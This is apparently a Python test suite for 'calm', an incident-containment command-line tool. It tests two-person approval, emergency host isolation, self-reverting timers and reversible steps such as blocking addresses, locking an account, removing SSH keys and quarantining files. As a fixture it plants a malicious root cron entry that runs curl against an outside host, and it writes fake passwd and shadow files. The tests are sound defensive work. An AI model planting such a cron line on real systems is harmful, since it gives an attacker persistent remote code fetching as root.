"""test_stop.py: two people stop an incident with calm: gates, approval, preview, going back by itself, and every operation's way there and back.

In namespaces of its own: nothing of this machine is changed."""
import os
import pathlib
import re
import socket
import struct
import subprocess
import threading
import time
import unittest

import contain_host
import harness
from contain_host import sh
from harness import ROOT, one_line
from stop_host import StopTest, rules

WHY_NOT = contain_host.enter()
USAGE, NOT_FOUND, GATE = 2, 3, 5
PASSWD = "root:x:0:0:root:/root:/bin/bash\nmallory:x:2002:2002::/home/mallory:/bin/sh\n"
SHADOW = "root:*:19000:0:99999:7:::\nmallory:$6$salt$hash:19701:0:99999:7:30::\n"
EVIL = "*/5 * * * * root curl http://198.51.100.7/x"


@unittest.skipIf(WHY_NOT, WHY_NOT)
class Stop(StopTest):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        pathlib.Path("/etc/passwd").write_text(PASSWD)
        pathlib.Path("/etc/group").write_text("root:x:0:\nmallory:x:2002:\n")
        pathlib.Path("/etc/shadow").write_text(SHADOW)

    def setUp(self):
        super().setUp()
        self.name = sh("uname", "-n").strip()

    def look(self):
        self.ana('assess look "mail goes out in bulk"')

    def state(self, call="a1"):
        return [a["state"] for a in self.ana.json("stop list") if a["call"] == call][0]

    def steps(self, call="a1"):
        return [(s["step"], s["by"]) for a in self.ana.json("stop list") if a["call"] == call for s in a["history"]]

    def test_a_plan_waits_for_the_first_look_and_for_another_person(self):
        bo = self.join("bo")
        said = self.ana('stop isolate --allow 10.9.0.7:22 --breaks "the shop"')
        self.assertIn("bo approves it, since you planned it", said)
        self.assertIn("keep       10.9.0.7 to TCP port 22", said)
        code, why = self.ana.fails("stop apply a1")
        self.assertEqual(code, GATE)
        self.assertIn("nobody has looked yet", why)
        self.look()
        code, why = self.ana.fails("stop apply a1")
        self.assertEqual(code, GATE)
        self.assertIn("a1 is not approved", why)
        code, why = self.ana.fails("stop approve a1")
        self.assertEqual(code, GATE)
        self.assertIn("you planned a1, so another approves it", why)
        self.assertIn("Next:  calm stop approve a1\n", bo("status"))
        self.assertIn("Next:  calm stop apply a1", bo("stop approve a1"))
        self.assertIn("Next:  calm stop apply a1\n", self.ana("status"))
        self.assertEqual(rules(), self.before)
        self.ana("stop apply a1")
        self.assertEqual(self.state(), "unconfirmed")
        self.ana("stop confirm a1")
        self.ana('stop undo a1 "over"')
        self.assertEqual(self.steps(), [("planned", "ana"), ("approved", "bo"), ("begun", "ana"), ("applied", "ana"), ("confirmed", "ana"),
                                        ("undone", "ana")])

    def test_a_plan_that_names_its_system_is_recorded_and_shows_its_switch_port(self):
        self.ana(f'assess system {self.name} --place "rack 3; switch port sw2/14"')
        said = one_line(self.ana(f"stop isolate {self.name} --allow 10.9.0.7:22"))
        self.assertIn(f"Surer: the network cable, the switch port or the hypervisor ({self.name}: rack 3; switch port sw2/14)", said)
        self.assertEqual(len(self.ana.json("stop list")), 1)
        self.assertEqual(len(self.ana.json("assess systems")), 1)

    def test_an_approval_may_be_spoken_and_an_override_is_on_record_and_reviewed(self):
        bo = self.join("bo")
        self.look()
        self.ana("stop block 203.0.113.9")
        self.ana('stop approve a1 --spoken "bo, 03:12, phone"')
        self.assertIn("by voice (bo, 03:12, phone)", one_line(self.ana("stop list")))
        self.ana("stop block 203.0.113.10")
        self.ana('stop apply a2 --override "seconds count"')
        self.ana("stop confirm a2")
        self.assertIn("a review of a2 by somebody else", self.ana("stop"))
        code, why = self.ana.fails('stop review a2 "right"')
        self.assertEqual(code, GATE)
        self.assertIn("a2 is yours, so another reviews it", why)
        self.assertEqual(self.ana.fails('stop review a1 "right"')[0], GATE)
        bo('stop review a2 "right: it was the last minute"')
        self.assertNotIn("a review of a2", self.ana("stop"))
        self.ana("report draft --file report")
        report = (self.folder / "report" / "REPORT.md").read_text()
        self.assertNotIn(f"on {self.name} on {self.name}", report)
        for words in ("seconds count", "reviewed", "it was the last minute", "confirmed"):
            self.assertIn(words, report)

    def test_what_is_not_confirmed_stands_among_the_deadlines_and_goes_back_by_itself(self):
        self.look()
        self.ana('stop block 203.0.113.9 198.51.100.0/24 --timer "10 s"')
        said = one_line(self.ana("stop apply a1"))
        self.assertIn("a restart of this host puts it back, until it is confirmed (/etc/cron.d/calm-contain)", said)
        self.assertIn("It goes back by itself in 10 s", said)
        self.assertIn("203.0.113.9", rules())
        said = self.ana("status")
        self.assertRegex(one_line(said), r"Deadlines a1 block 198\.51\.100\.0/24 and 1 more on \S+ goes back in \d+ s unless confirmed: calm stop confirm a1")
        self.assertIn("Next:  calm stop confirm a1\n", said)
        self.assertLessEqual(len(said.splitlines()), 24)
        end = time.time() + 14
        while rules() != self.before and time.time() < end:
            time.sleep(0.2)
        self.assertEqual(rules(), self.before)
        home = one_line(self.ana("status"))
        self.assertIn("Next: calm stop status ", home)
        self.assertIn("should have gone back by now; the host says whether it did: calm stop status", home)
        self.assertNotIn("went back by itself", home)
        self.assertIn("went back by itself", one_line(self.ana("stop status")))
        went = [s for s in self.ana.json("stop list")[0]["history"] if s["step"] == "undone"][0]
        self.assertEqual(went["time"], self.ana.json("stop list")[0]["goes-back"])
        self.assertEqual(self.ana.fails("stop confirm a1")[0], NOT_FOUND)

    def test_an_expiry_is_told_when_it_is_confirmed(self):
        self.look()
        self.ana('stop block 203.0.113.9 --for-time "24 h"')
        self.ana("stop apply a1")
        self.assertRegex(self.ana("stop confirm a1"), r"a1 stays until \d+ \w+ \d\d:\d\d, or until somebody undoes it")

    def test_an_emergency_waits_for_nothing_and_is_reviewed(self):
        bo = self.join("bo")
        said = self.ana('stop --emergency "files are being encrypted"')
        self.assertIn("This host is cut off (a1)", said)
        self.assertIn("table inet calm", rules())
        self.assertEqual(self.ana.json("stop status")[0]["left_ms"], 0)
        self.assertIn("in effect until somebody undoes it", one_line(self.ana("stop status")))
        self.ana.fails('stop review a1 "right"')
        bo('stop review a1 "right"')
        self.assertEqual(self.ana.json("stop undo a1")["state"], "undone")
        self.assertEqual(self.steps(), [("begun", "ana"), ("done", "ana"), ("reviewed", "bo"), ("undone", "ana")])

    def test_an_emergency_in_effect_is_the_first_line_and_cannot_be_confirmed(self):
        self.ana('stop --emergency "files are being encrypted"')
        line = f"EMERGENCY: {self.name} is cut off (a1), until: calm stop undo a1"
        for screen in (self.ana("status"), self.ana(""), self.ana("stop status")):
            self.assertTrue(one_line(screen).startswith(line), screen)
            self.assertLessEqual(len(screen.splitlines()), 24, screen)
            self.assertLessEqual(max(len(row) for row in screen.splitlines()), 80, screen)
        code, why = self.ana.fails("stop confirm a1")
        self.assertEqual(code, GATE)
        self.assertIn("a1 is an emergency: it has no timer, so there is nothing to confirm", one_line(why))
        self.assertEqual(self.state(), "done")
        self.ana("stop undo a1")
        for screen in (self.ana("status"), self.ana("stop status")):
            self.assertNotIn("EMERGENCY", screen)

    def test_what_was_ended_is_over_and_no_file_is_told_of_that_is_not_there(self):
        self.look()
        child = subprocess.Popen(["sleep", "100"])
        try:
            self.ana(f"stop end {child.pid} --accept-no-undo")
            said = one_line(self.ana("stop apply a1"))
            self.assertEqual(child.wait(5), -9)
        finally:
            child.kill()
            child.wait()
        for screen in (said, one_line(self.ana("stop list")), one_line(self.ana("stop show a1"))):
            self.assertNotIn("/etc/cron.d", screen)
            self.assertNotIn("in effect", screen)
        self.assertIn("done; it cannot be undone", one_line(self.ana("stop status")))
        self.assertEqual(self.ana.json("stop status")[0]["host_state"], "")  # the host keeps nothing of it
        for order in ("undo", "confirm"):
            code, why = self.ana.fails(f"stop {order} a1")
            self.assertEqual(code, GATE)
            self.assertIn("a1 was done and cannot be undone", one_line(why))
        self.assertEqual(self.state(), "done")

    def test_whom_the_time_was_not_over_for_is_not_told_that_it_went_back_by_itself(self):
        self.look()
        self.ana('stop block 203.0.113.9 --timer "10 min"')
        self.ana("stop apply a1")
        ident = next(line.split()[1] for line in self.ana.json("stop show a1")["plan_text"].splitlines() if line.startswith("id "))
        subprocess.run([contain_host.CONTAIN, "serve"], input=f"undo {ident}\n".encode(), check=True, capture_output=True)
        self.assertEqual(rules(), self.before)
        said = one_line(self.ana("stop status"))
        self.assertIn("somebody undid it on the host, before its time was over", said)
        self.assertNotIn("went back by itself", said)

    def test_an_emergency_does_not_wait_for_a_reason_and_says_who_still_passes(self):
        said = one_line(self.ana("stop --emergency"))
        self.assertIn("This host is cut off (a1). Nothing passes but loopback. No connection is yours: you are at its console.", said)
        self.assertIn("table inet calm", rules())
        self.assertEqual(self.ana.json("stop list")[0]["reason"], "no reason given")
        self.ana("stop undo a1")
        said = one_line(self.ana('stop --emergency "mail" --allow 10.9.0.7:22 --allow 10.9.0.8'))
        self.assertIn("Nothing passes but loopback, 10.9.0.7:22, 10.9.0.8. No connection is yours", said)

    def test_a_preview_says_the_limit_the_end_and_who_is_shut_out(self):
        said = one_line(self.ana("stop limit http --port 80 --rate 20 --prefix4 24"))
        self.assertIn("a1 limit HTTP requests to port 80 to 20 a second on", said)
        self.assertIn("of each IPv4 /24 network and IPv6 /64 network, 20 packets with requests (40 at once) and 30000 bytes (60000 at once) pass a second, to port 80", said)
        said = one_line(self.ana('stop block 203.0.113.9 --for-time "24 h"'))
        self.assertRegex(said, r"put back after 5 min unless it is confirmed; confirmed, it holds until \d\d:\d\d tomorrow, or until somebody undoes it")
        self.assertIn("nobody: once it is in effect no one can get in over the network", one_line(self.ana("stop isolate")))
        self.assertIn("keep this host to UDP port 514 of 10.9.0.9", one_line(self.ana("stop isolate --allow 10.9.0.9,udp,514,out")))
        # A log-in of utmp(5): type 7, the user at 44, an IPv4 address at 348.
        record = struct.pack("<hxxi32s4s32s256shhiii", 7, 1, b"pts/0", b"0", b"mallory", b"", 0, 0, 0, 0, 0) + bytes([10, 9, 0, 66]) + bytes(32)
        self.assertEqual(len(record), 384)
        sh("mount", "-t", "tmpfs", "none", "/run")
        self.addCleanup(sh, "umount", "-l", "/run")
        pathlib.Path("/run/utmp").write_bytes(record)
        self.assertIn("shut out mallory from 10.9.0.66, who is logged in from there", one_line(self.ana("stop isolate --allow 10.9.0.7:22")))
        self.assertNotIn("shut out", self.ana("stop isolate --allow 10.9.0.0/24:22"))
        self.assertIn("shut out mallory", one_line(self.ana("stop block 10.9.0.64/26")))
        code, why = self.ana.fails('stop block 203.0.113.9 --for-time "5 min"')
        self.assertEqual(code, USAGE)
        self.assertIn("must be longer than the time in which that can be done", why)

    def test_where_a_device_is_is_not_taken_for_where_this_plan_goes(self):
        self.look()
        self.ana("stop block 203.0.113.9")
        for line in ("apply a1 --ssh root@10.9.0.7", "apply a1 --sudo", 'apply a1 --wait "5 s"', "confirm a1 --ssh root@10.9.0.7", "undo a1 --ssh root@10.9.0.7"):
            code, why = self.ana.fails("stop " + line)
            self.assertEqual(code, USAGE, line)
            self.assertIn("is for a plan that a device carries out", one_line(why))
            self.assertEqual((self.state(), rules()), ("planned", self.before))

    def test_a_list_that_is_wrong_is_refused_with_its_line(self):
        for text, words in (("10.0.0.1\n\nfoo\n", "line 3: \"foo\" is no address"), ("# nothing\n\n", "names no address")):
            (self.folder / "list.txt").write_text(text)
            code, why = self.ana.fails(f"stop block --from-file {self.folder}/list.txt")
            self.assertEqual(code, USAGE)
            self.assertIn(words, why)

    def test_what_is_in_effect_comes_first_and_undone_ones_are_folded(self):
        self.look()
        for number in range(1, 12):
            self.ana(f"stop block 203.0.113.{number}")
        self.ana("stop apply a2")
        self.ana("stop undo a2")
        self.ana("stop apply a4")
        page = self.ana("stop")
        self.assertLess(page.index("a4 block 203.0.113.4"), page.index("a11 block"))
        self.assertIn("in effect, goes back in", page)
        self.assertIn("1 undone (calm stop list --all)", page)
        self.assertIn("stop (1 under way, 9 planned, 1 undone)", one_line(self.ana("status")))
        listed = re.findall(r"^a(\d+)", self.ana("stop list"), re.M)
        self.assertEqual(listed, ["4", "11", "10", "9", "8", "7", "6", "5", "3", "1"])
        self.assertIn("\na2 ", self.ana("stop list --all"))
        self.assertEqual([a["call"] for a in self.ana.json("stop list")], [f"a{n}" for n in range(1, 12)])
        said = self.ana("stop status")
        self.assertIn("1 undone before: calm stop list --all", said)
        self.assertNotIn("a2 ", said)
        self.assertIn("a8, …", one_line(self.ana.fails("stop show a99")[1]))
        self.assertIn("there is no action called \"a99\"", one_line(self.ana.fails("stop done a99")[1]))  # a slip, and no words
        self.assertIn('action done: a12 switch port', self.ana('stop done "switch port sw2/14 shut"'))

    def test_an_emergency_does_not_wait_for_a_case_that_is_not_there(self):
        (self.folder / "elsewhere").mkdir()
        dan = harness.Person("dan", self.folder / "elsewhere", None)
        done = dan.run("stop", "--emergency", "files are being encrypted", env={"CALM_CASE": str(self.folder / "pulled.calm")})
        self.assertEqual(done.returncode, 0, done.stderr)
        self.assertIn(b"pulled.calm is not the folder of a case; it goes on record elsewhere", done.stderr)
        self.assertIn("table inet calm", rules())
        self.assertEqual([a["reason"] for a in dan.json("stop list")], ["files are being encrypted"])
        dan("stop undo a1")

    def test_who_may_not_write_is_told_what_to_do_by_hand(self):
        eve = harness.Person("eve", self.folder, self.case)
        done = eve.run("stop", "--emergency", "mail", "--by-hand")
        self.assertNotEqual(done.returncode, 0)
        self.assertIn("Pull the network cable", one_line(done.stderr.decode()))
        self.assertEqual(rules(), self.before)

    def test_an_emergency_by_hand_names_where_to_pull(self):
        self.ana('assess system db9 --place "rack 4; switch port sw1/3"')
        said = one_line(self.ana('stop emergency "mail" --system db9'))
        self.assertIn("(db9: rack 4; switch port sw1/3)", said)
        self.assertEqual(rules(), self.before)

    def test_a_plan_is_read_to_the_letter_before_it_is_approved(self):
        self.ana("stop block 203.0.113.9 --allow 10.9.0.7")
        shown = self.ana.json("stop show a1")
        self.assertIn("\naddress 203.0.113.9\n", shown["plan_text"])
        digest = subprocess.run(["sha256sum"], input=shown["plan_text"], capture_output=True, text=True, check=True).stdout.split()[0]
        self.assertEqual(shown["plan_sha256"], digest)
        text = self.ana("stop show a1")
        self.assertIn("  address 203.0.113.9\n", text)
        self.assertIn(digest, text)
        self.ana('stop plan "by hand" --undo "by hand"')
        self.assertNotIn("plan_text", self.ana.json("stop show a2"))

    def test_what_comes_now_is_seen_by_the_kernels_counters(self):
        """Datagrams to a port whose program reads none: its room is full, and a rule of somebody else's counts them too."""
        sh("nft", "add table inet probe; add chain inet probe in { type filter hook input priority 0; }; add rule inet probe in udp dport 5353 counter")
        full = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        full.bind(("127.0.0.1", 5353))
        stop = threading.Event()

        def send():
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
                while not stop.is_set():
                    for _ in range(100):
                        sender.sendto(b"x" * 500, ("127.0.0.1", 5353))
                    time.sleep(0.01)

        sender = threading.Thread(target=send)
        sender.start()
        try:
            time.sleep(0.5)  # until its room is full
            traffic = self.ana.json("stop propose")["traffic"]
            said = one_line(self.ana("stop propose"))
        finally:
            stop.set()
            sender.join()
            full.close()
            sh("nft", "delete table inet probe")
        self.assertGreater(traffic["udp_no_room"], 1000)
        (counter,) = [c for c in traffic["counters"] if c["table"] == "probe"]
        self.assertEqual((counter["family"], counter["chain"]), ("inet", "in"))
        self.assertGreaterEqual(counter["packets"], traffic["udp_no_room"])
        self.assertIn("most at port 5353", said)
        self.assertIn("calm stop limit udp --port 5353 --rate 100", said)
        self.assertIn("cannot be measured", said)
        self.assertIn("UDP port 5353", self.ana("notify script provider"))

    def test_the_stick_stops_it_too(self):
        self.look()
        self.assertTrue(self.ana.json("ready stick")["helper"])
        words = ["sh", str(self.folder / "stick" / "run-calm"), "--case", str(self.case)]
        for command in ("stop block 203.0.113.9", "stop apply a1", "stop undo a1"):
            done = subprocess.run([*words, *command.split()], env=self.ana.env, cwd="/", capture_output=True, text=True, check=False)
            self.assertEqual(done.returncode, 0, done.stderr)
        self.assertEqual(self.state(), "undone")

    def test_every_command_of_the_page_stop_it_now_is_one(self):
        page = (ROOT / "README.md").read_text().split("## Stop it now")[1].split("```")[1]
        commands = re.findall(r"^ {8}calm ((?:stop|assess) [\w-]+)", page, re.M)
        self.assertGreater(len(commands), 12)
        for command in commands:
            words = command.replace("--emergency", "emergency").split()
            self.assertEqual(self.ana.run(*words, "--help").returncode, 0, command)

    def test_what_calm_carries_out_is_not_begun_by_hand(self):
        self.look()
        self.ana("stop block 203.0.113.9")
        code, why = self.ana.fails("stop begin a1")
        self.assertEqual(code, USAGE)
        self.assertIn("calm stop apply a1", why)
        self.ana('stop plan "switch sw2 port 14" --undo "no shutdown"')
        code, why = self.ana.fails("stop apply a2")
        self.assertEqual(code, USAGE)
        self.assertIn("calm stop begin a2", why)

    def works(self, plan, during, after, call="a1"):
        """Planned, applied, looked at, undone, looked at."""
        self.look()
        self.ana(plan)
        applied = self.ana.json(f"stop apply {call}")
        self.assertEqual((applied["state"], "goes_back" in applied), ("unconfirmed", True))
        during()
        self.assertEqual(self.ana.json(f"stop confirm {call}")["state"], "done")
        self.assertEqual(self.ana.json(f"stop undo {call}")["state"], "undone")
        after()

    def test_what_cannot_be_planned_is_said_in_the_words_that_were_typed(self):
        for line, words in (("isolate --timer 48h", "--timer is between 10 s and 24 h"), ("isolate --timer 0s", "--timer is between 10 s and 24 h"),
                            ("limit tcp", "a limit needs a rate"), ("limit tcp --rate 0", 'rate is a number from 1 to 10000000, and "0" is not'),
                            ("limit tcp --port 70000 --rate 3", 'port is a number from 1 to 65535, and "70000" is not'),
                            ("quarantine relative/path", 'file is the absolute path of a file or a link, and "relative/path" is not'),
                            ("freeze 1", 'and "1" is not')):
            with self.subTest(line):
                status, said = self.ana.fails("stop " + line)
                self.assertEqual(status, 2)
                self.assertIn(words, said)
        self.assertEqual(self.ana.json("stop list"), [])

    def test_limit_there_and_back(self):
        self.works("stop limit tcp --port 80 --rate 20", lambda: self.assertIn("limit rate over 20/second", rules()), lambda: None)

    def test_down_there_and_back(self):
        def flags():
            return sh("ip", "-o", "link", "show", "e0").split("<")[1].split(">")[0].split(",")
        self.works("stop down e0", lambda: self.assertNotIn("UP", flags()), lambda: self.assertIn("UP", flags()))

    def test_freeze_there_and_back_and_end(self):
        child = subprocess.Popen(["sleep", "100"])

        def stands():
            try:
                groups = pathlib.Path(f"/proc/{child.pid}/cgroup").read_text()
                return "calm-contain-" in groups or "T (stopped)" in pathlib.Path(f"/proc/{child.pid}/status").read_text()
            except OSError:
                return False
        try:
            self.works(f"stop freeze {child.pid}", lambda: self.assertTrue(stands()), lambda: self.assertFalse(stands()))
            code, why = self.ana.fails(f"stop end {child.pid}")
            self.assertEqual(code, USAGE)
            self.assertIn("--accept-no-undo", why)
            self.ana(f"stop end {child.pid} --accept-no-undo")
            self.assertEqual(self.ana.json("stop apply a2")["state"], "done")
            self.assertEqual(child.wait(5), -9)
        finally:
            child.kill()
            child.wait()

    def test_log_out(self):
        child = subprocess.Popen(["setpriv", "--reuid=2002", "--regid=2002", "--clear-groups", "sleep", "100"])
        try:
            end = time.time() + 5
            while "Uid:\t2002" not in pathlib.Path(f"/proc/{child.pid}/status").read_text() and time.time() < end:
                time.sleep(0.05)
            self.look()
            self.ana("stop log-out mallory --accept-no-undo")
            self.ana("stop apply a1")
            self.assertEqual(child.wait(5), -9)
        finally:
            child.kill()
            child.wait()

    def test_lock_there_and_back(self):
        def shadow():
            return pathlib.Path("/etc/shadow").read_text()
        self.works("stop lock mallory", lambda: self.assertIn("mallory:!$6$salt$hash:", shadow()), lambda: self.assertEqual(shadow(), SHADOW))

    def test_keys_there_and_back(self):
        path = pathlib.Path("/home/mallory/.ssh/authorized_keys")
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("ssh-ed25519 AAAA mallory\n")
        for one, mode in ((path.parent.parent, 0o755), (path.parent, 0o700), (path, 0o600)):
            os.chown(one, 2002, 2002)
            os.chmod(one, mode)
        self.works("stop keys mallory", lambda: self.assertFalse(path.exists()), lambda: self.assertIn("mallory", path.read_text()))

    def test_job_there_and_back(self):
        path = pathlib.Path("/etc/cron.d/update")
        text = f"SHELL=/bin/sh\n{EVIL}\n17 * * * * root true\n"
        path.write_text(text)
        self.works(f'stop job {path} "{EVIL}"', lambda: self.assertEqual(path.read_text(), text.replace(EVIL + "\n", "")),
                   lambda: self.assertEqual(path.read_text(), text))

    def test_quarantine_there_and_back(self):
        path = pathlib.Path("/srv/.x")
        path.write_bytes(b"\x7fELF evil")
        self.works(f"stop quarantine {path}", lambda: self.assertFalse(path.exists()), lambda: self.assertEqual(path.read_bytes(), b"\x7fELF evil"))

    def test_a_unit_needs_systemd_and_nothing_is_recorded_where_it_lacks(self):
        code, why = self.ana.fails("stop unit backdoor.service")
        self.assertEqual(code, GATE)
        self.assertIn("systemd", why)
        self.assertEqual(self.ana.json("stop list"), [])

    def test_a_block_without_addresses_says_what_is_missing(self):
        code, why = self.ana.fails("stop block")
        self.assertEqual(code, USAGE)
        self.assertIn("--from-file", why)

    def test_who_would_lock_themselves_out_is_refused_by_name(self):
        for address, words in (("10.9.0.1", "an address of this host"), ("0.0.0.0/0", ""), ("127.0.0.1", "")):
            code, why = self.ana.fails(f"stop block {address}")
            self.assertEqual(code, GATE, why)
            self.assertIn(address, why)
            self.assertIn(words, why)
        done = self.ana.run("stop", "isolate", env={"SSH_CONNECTION": "10.9.0.7 40022 10.9.0.1 22"})
        self.assertEqual(done.returncode, GATE)
        self.assertIn(b"10.9.0.7", done.stderr)

    def test_every_screen_fits_the_terminal(self):
        self.join("bo")
        self.look()
        self.ana('stop isolate --allow 10.9.0.7:22 --breaks "the shop, its owner Eva Brandt, and all who wait for an invoice by mail"')
        screens = [self.ana("stop isolate --allow 10.9.0.7:22"), self.ana("stop"), self.ana('stop apply a1 --override "why not"'), self.ana("status"),
                   self.ana("stop"), self.ana("stop status"), self.ana("stop list"), self.ana("stop confirm a1"), self.ana("stop"),
                   self.ana("stop undo a1"), self.ana("help stop"), self.ana('stop --emergency "files are being encrypted"'), self.ana("stop undo a3")]
        for screen in screens:
            self.assertLessEqual(len(screen.splitlines()), 24, screen)
            self.assertLessEqual(max(len(line) for line in screen.splitlines()), 80, screen)


if __name__ == "__main__":
    harness.main()
